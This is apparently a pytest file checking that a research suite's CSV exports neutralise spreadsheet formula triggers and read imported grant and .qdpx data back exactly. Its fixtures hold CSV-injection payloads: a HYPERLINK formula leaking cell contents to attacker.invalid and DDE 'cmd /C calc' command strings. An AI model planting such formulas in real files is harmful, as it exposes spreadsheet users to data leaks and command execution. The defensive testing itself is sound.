"""CSVs for people: formula cells neutralised when written, restored when read (analysis.files).

The attacks put spreadsheet formulas where the suite copies text from a file it imports:
grant titles and recipients' names from a 360Giving file, code names and coded text from a
.qdpx project. The CSVs the suite writes from them (imports, the starter mapping) must not
start any cell with a formula trigger, and the study must read back exactly what was imported.
"""

from __future__ import annotations

import csv
import io
import itertools

import pandas as pd
import pytest

from analysis import load_study
from analysis.cli import main
from analysis.files import (
    FORMULA_TRIGGERS,
    csv_bytes_for_people,
    neutralise_cell,
    neutralise_formulas,
    read_csv_from_people,
    restore_cell,
    restore_formulas,
    write_csv_for_people,
)
from analysis.qdpx.importer import import_evidence, write_new_csv
from analysis.qdpx.mapping import read_mapping, starter_mapping
from analysis.qdpx.reader import read_qdpx
from tests.helpers import TINY_SETTINGS, tiny_tables, write_study
from tests.qdpx_fixtures import QdpxBuilder

# Payloads a spreadsheet would run, each starting with a different trigger.
PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Open the report")',
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "-",
    "+",
    "'=already quoted by someone",
    "''two quotes then text",
]


def _cells(data: bytes, encoding="utf-8-sig"):
    """Every cell of a CSV as a spreadsheet would see it (header included)."""
    return [c for row in csv.reader(io.StringIO(data.decode(encoding))) for c in row]


def _dangerous(cell: str) -> bool:
    """A cell a spreadsheet would read as a formula: a trigger first, and not a plain number."""
    try:
        float(cell)
        return False
    except ValueError:
        return bool(cell) and cell[0] in FORMULA_TRIGGERS


# -- the rule -------------------------------------------------------------------------------

@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1-1", "'+1-1"), ("-x", "'-x"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("\0x", "'\0x"),
    ("-5", "-5"), ("+3.25", "+3.25"), ("-1e3", "-1e3"), ("-.5", "-.5"),   # plain numbers: left as numbers
    ("-5 people", "'-5 people"), ("--5", "'--5"), ("-5e", "'-5e"),         # not numbers: neutralised
    ("'=x", "''=x"), ("''", "'''"), ("'-5", "''-5"),                       # quotes that would be lost
    ("'tis", "'tis"), ("'", "'"), ("Age UK", "Age UK"), ("", ""), ("a=b", "a=b"),
])
def test_neutralise_rule(value, written):
    assert neutralise_cell(value) == written
    assert restore_cell(written) == value


def test_round_trip_is_exact_for_every_short_string_of_tricky_characters():
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "\0", "5", ".", "a", " "]
    for n in range(1, 5):
        for chars in itertools.product(alphabet, repeat=n):
            value = "".join(chars)
            written = neutralise_cell(value)
            assert restore_cell(written) == value, repr(value)
            assert not _dangerous(written), repr(value)


def test_values_that_are_not_text_stay_as_they_are():
    df = pd.DataFrame({"amount": [-5, 250, -1.5], "when": pd.to_datetime(["2020-01-01"] * 3),
                       "title": ["-5", "=x", None]})
    out = neutralise_formulas(df)
    assert out["amount"].tolist() == [-5, 250, -1.5] and out["amount"].dtype == df["amount"].dtype
    assert out["when"].equals(df["when"])
    assert out["title"].tolist()[:2] == ["-5", "'=x"] and pd.isna(out["title"].iloc[2])  # a blank stays blank
    assert restore_formulas(out).equals(df)


def test_header_cells_are_neutralised_too():
    df = pd.DataFrame({"=evil()": ["a"], "ok": ["b"]})
    assert _cells(csv_bytes_for_people(df))[:2] == ["'=evil()", "ok"]
    assert restore_formulas(neutralise_formulas(df)).columns.tolist() == ["=evil()", "ok"]


def test_write_and_read_back(tmp_path):
    df = pd.DataFrame({"title": PAYLOADS, "n": range(-4, len(PAYLOADS) - 4)})
    path = tmp_path / "for-people.csv"
    write_csv_for_people(df, path)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a byte-order mark: Excel reads UTF-8 as UTF-8
    cells = _cells(data)
    assert [c for c in cells if _dangerous(c)] == []
    assert "-4" in cells  # a negative number is still a number
    back = read_csv_from_people(path)
    assert back["title"].tolist() == PAYLOADS
    assert back["n"].astype(int).tolist() == df["n"].tolist()
    assert [p.name for p in tmp_path.iterdir()] == ["for-people.csv"]  # written atomically: no temporary left


# -- grants imported from a 360Giving file ----------------------------------------------------

def _grants_file(path):
    rows = []
    for i, title in enumerate(PAYLOADS):
        rows.append({
            "Identifier": f"360G-evil-{i}", "Title": title, "Description": "@" + title,
            "Currency": "GBP", "Amount Awarded": str(100 + i), "Award Date": "2020-05-01",
            "Recipient Org:Identifier": "GB-CHC-0000007", "Recipient Org:Name": "=1+1 Community Pantry",
            "Funding Org:Identifier": "GB-LAE-NTH", "Funding Org:Name": "Northtown Council",
            "Grant Programme:Title": "-Emergency fund",
        })
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


def test_imported_grants_are_neutralised_and_load_back_exactly(tmp_path, capsys):
    study_dir = write_study(tmp_path / "tiny", tiny_tables(), TINY_SETTINGS)
    source = _grants_file(tmp_path / "evil grants.csv")
    assert main(["import-grants", str(source), "--study", str(study_dir)]) == 0
    (written,) = (study_dir / "imports").glob("grants-*.csv")
    cells = _cells(written.read_bytes(), "utf-8")
    assert [c for c in cells if _dangerous(c)] == []
    assert "'=1+1 Community Pantry" in cells and "'-Emergency fund" in cells
    grants = load_study(study_dir).grants.set_index("Identifier")
    for i, title in enumerate(PAYLOADS):
        row = grants.loc[f"360G-evil-{i}"]
        assert row["Title"] == title
        assert row["Description"] == "@" + title
        assert row["Recipient Org:Name"] == "=1+1 Community Pantry"
        assert row["Grant Programme:Title"] == "-Emergency fund"
        assert row["Amount Awarded"] == 100 + i


def test_a_person_may_type_an_apostrophe_in_an_import(tmp_path):
    # A file under imports/ edited by hand: "'Warm Spaces' fund" keeps its quotes on load.
    study_dir = write_study(tmp_path / "tiny", tiny_tables(), TINY_SETTINGS)
    grants = tiny_tables()["grants"].iloc[:1].copy()
    grants["Identifier"] = "360G-hand-1"
    grants["Title"] = "'Warm Spaces' fund"
    (study_dir / "imports").mkdir()
    grants.to_csv(study_dir / "imports" / "grants-by-hand.csv", index=False)
    loaded = load_study(study_dir).grants.set_index("Identifier")
    assert loaded.loc["360G-hand-1", "Title"] == "'Warm Spaces' fund"


# -- a .qdpx project: the starter mapping and the imported evidence ---------------------------

HOSTILE_CODE = '=HYPERLINK("http://attacker.invalid","Trust")'
TEXT = ("Interviewer: how did it go?\n"
        "=SUM(A1:A9) is what the coordinator typed into the rota.\n"
        "-- we had no money by July.\n"
        "@everyone was on the group chat.\n")
SPANS = ["=SUM(A1:A9) is what the coordinator typed into the rota.", "-- we had no money by July.",
         "@everyone was on the group chat."]


def _project(tmp_path):
    b = QdpxBuilder()
    hostile = b.code(HOSTILE_CODE)
    minus = b.code("-Funding cliff", parent=b.code("+Funding"))
    b.variable("Locality")
    b.variable("Phase")
    src = b.text_source("interview-12.txt", TEXT)
    b.select(src, SPANS[0], [hostile])
    b.select(src, SPANS[1], [minus])
    b.select(src, SPANS[2], [hostile])
    b.case("Respondent 12", {"Locality": "Northtown", "Phase": "During"}, sources=[src.guid])
    return b.write(tmp_path / "hostile.qdpx")


def test_starter_mapping_is_neutralised_and_read_back_after_a_person_fills_it(tmp_path):
    qdpx = _project(tmp_path)
    project = read_qdpx(qdpx)
    path = write_new_csv(starter_mapping(project), tmp_path, "mapping")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    assert [c for row in rows for c in row if _dangerous(c)] == []
    matches = [r[1] for r in rows[1:] if r[0] == "code"]
    assert matches == ["'" + HOSTILE_CODE, "'+Funding", "'+Funding/-Funding cliff"]
    # A person fills in kind and theme in a spreadsheet and saves: the quoted cells stay quoted.
    for r in rows[1:]:
        if r[0] == "code" and r[1] != "'+Funding":
            r[3], r[4] = ("shift", "trust") if "HYPERLINK" in r[1] else ("threat", "funding_process")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8-sig")
    mapping = read_mapping(path, project)
    by_name = {project.codes[g].path_text: row["kind"] for g, row in mapping.codes.items()}
    assert by_name == {HOSTILE_CODE: "shift", "+Funding/-Funding cliff": "threat"}


def test_imported_evidence_is_neutralised_and_loads_back_exactly(tmp_path):
    qdpx = _project(tmp_path)
    study_dir = write_study(tmp_path / "tiny", tiny_tables(), TINY_SETTINGS)
    mapping = tmp_path / "filled.csv"
    write_csv_for_people(pd.DataFrame([
        {"rule": "code", "match": HOSTILE_CODE, "kind": "shift", "theme_id": "trust"},
        {"rule": "code", "match": "+Funding/-Funding cliff", "kind": "threat", "theme_id": "funding_process"},
        {"rule": "place_from_variable", "match": "Locality"},
        {"rule": "phase_from_variable", "match": "Phase"},
    ]), mapping)
    result = import_evidence(qdpx, study_dir, mapping)
    assert result.skipped.empty, result.report()
    cells = _cells(result.path.read_bytes())
    assert [c for c in cells if _dangerous(c)] == []
    assert "'" + SPANS[0] in cells
    evidence = load_study(study_dir).evidence
    imported = evidence[evidence["evidence_id"].str.startswith("qdpx-")]
    assert sorted(imported["quote"]) == sorted(SPANS)
    assert sorted(imported["summary"]) == sorted(SPANS)
